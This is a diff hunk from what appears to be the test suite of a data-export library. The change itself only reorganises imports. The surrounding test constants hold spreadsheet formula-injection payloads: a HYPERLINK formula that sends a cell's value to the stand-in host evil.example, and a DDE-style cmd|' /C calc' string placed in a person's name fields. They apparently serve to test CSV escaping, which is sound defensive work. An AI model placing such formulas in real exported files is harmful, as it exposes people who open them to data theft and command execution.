@@ -11,7 +11,8 @@ from pathlib import Path
 
 from dyad.export import csv_cell, export_tables
 from dyad.model import Doc, Person, Quote, Record
-from dyad.store.db import engine_for, store_records
+from dyad.run import store_records
+from dyad.store.db import engine_for
 
 PAYLOAD = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 SPEAKER = Person("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", None, "KAZ", "kaz-x", (0, 5))
